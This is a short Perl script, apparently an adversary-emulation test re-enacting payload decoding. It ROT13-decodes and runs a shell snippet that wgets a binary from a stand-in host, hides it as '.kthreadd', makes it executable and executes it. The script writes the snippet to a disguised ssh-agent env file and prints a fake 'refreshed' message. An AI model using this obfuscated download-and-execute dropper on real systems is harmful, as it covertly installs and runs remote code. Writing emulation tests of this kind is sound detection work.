#!/usr/bin/perl
# ssh-env-sync (harmless re-enactment of T1140): a ROT13'd shell snippet is rotated back with tr
# in this process's memory, written to /tmp/.ssh-agent.env and sourced by sh (`. file`).
# Decoded, the snippet is:
#   cd /var/tmp
#   wget -q http://mirror.kernel-upd.test/bin/kthreadd -O .kthreadd
#   chmod 700 .kthreadd
#   ./.kthreadd
use strict;
use warnings;

my $env = "pq /ine/gzc\n"
        . "jtrg -d uggc://zveebe.xreary-hcq.grfg/ova/xguernqq -B .xguernqq\n"
        . "puzbq 700 .xguernqq\n"
        . "./.xguernqq\n";
(my $plain = $env) =~ tr/A-Za-z/N-ZA-Mn-za-m/;
my $file = "/tmp/.ssh-agent.env";
open(my $fh, '>', $file) or die "cannot write $file: $!";
print $fh $plain;
close $fh;
print "env-sync: agent environment refreshed\n";
system('/bin/sh', '-c', ". $file");
exit 0;
